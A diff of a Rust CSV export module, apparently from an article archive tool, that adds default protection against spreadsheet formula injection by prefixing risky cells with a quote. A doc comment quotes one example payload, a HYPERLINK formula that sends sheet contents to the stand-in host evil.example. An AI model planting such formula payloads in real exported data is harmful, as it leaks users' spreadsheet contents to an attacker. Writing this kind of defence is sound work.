@@ -3,30 +3,65 @@
 //! CRLF; a field holding a comma, a double quote, CR or LF is quoted, its
 //! quotes doubled (article text spans lines, so most `text` fields are).
 //! Values are the JSONL ones: numbers in decimal, absent values empty.
+//!
+//! Formula injection (OWASP's "CSV injection"): a spreadsheet runs a cell
+//! that starts with `=`, `+`, `-` or `@` (or tab, CR) as a formula, so a
+//! page titled `=HYPERLINK("http://evil.example/?leak="&A1,"Click")` became
+//! a live link leaking the sheet. By default ([`Formulas::Defused`]) such a
+//! cell gets a leading `'`, which spreadsheets show as text and do not
+//! display; [`Formulas::Kept`] (`export --format csv --csv-formulas`) writes
+//! cells as stored.
 
 use std::io::Write;
 
 use super::{ExportError, FIELDS};
 use crate::store::{Selection, Store, StoredArticle};
 
+/// What becomes of a cell a spreadsheet would run as a formula.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub enum Formulas {
+    /// Prefixed with `'`: shown as text.
+    #[default]
+    Defused,
+    /// Written as stored.
+    Kept,
+}
+
 /// Stream the selected articles as CSV. Returns how many were written.
-pub fn write_csv(store: &Store, sel: &Selection, out: &mut dyn Write) -> Result<u64, ExportError> {
+pub fn write_csv(
+    store: &Store,
+    sel: &Selection,
+    formulas: Formulas,
+    out: &mut dyn Write,
+) -> Result<u64, ExportError> {
     write_record(out, FIELDS.iter().copied())?;
     let n = store.export(sel, |a| {
-        let row = row_of(a)?;
+        let row = row_of(a, formulas)?;
         write_record(out, row.iter().map(String::as_str))
     })?;
     Ok(n)
 }
 
+/// `cell`, with a leading `'` when a spreadsheet would read it as a formula.
+pub fn defuse(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
 /// The article's fields in [`FIELDS`] order, through its JSON form so the two
 /// formats cannot drift apart.
-pub(super) fn row_of(a: &StoredArticle) -> std::io::Result<Vec<String>> {
+pub(super) fn row_of(a: &StoredArticle, formulas: Formulas) -> std::io::Result<Vec<String>> {
     let value = serde_json::to_value(a).map_err(std::io::Error::from)?;
     Ok(FIELDS
         .iter()
         .map(|f| match value.get(f) {
             None | Some(serde_json::Value::Null) => String::new(),
+            Some(serde_json::Value::String(s)) if formulas == Formulas::Defused => {
+                defuse(s.clone())
+            }
             Some(serde_json::Value::String(s)) => s.clone(),
             Some(other) => other.to_string(),
         })
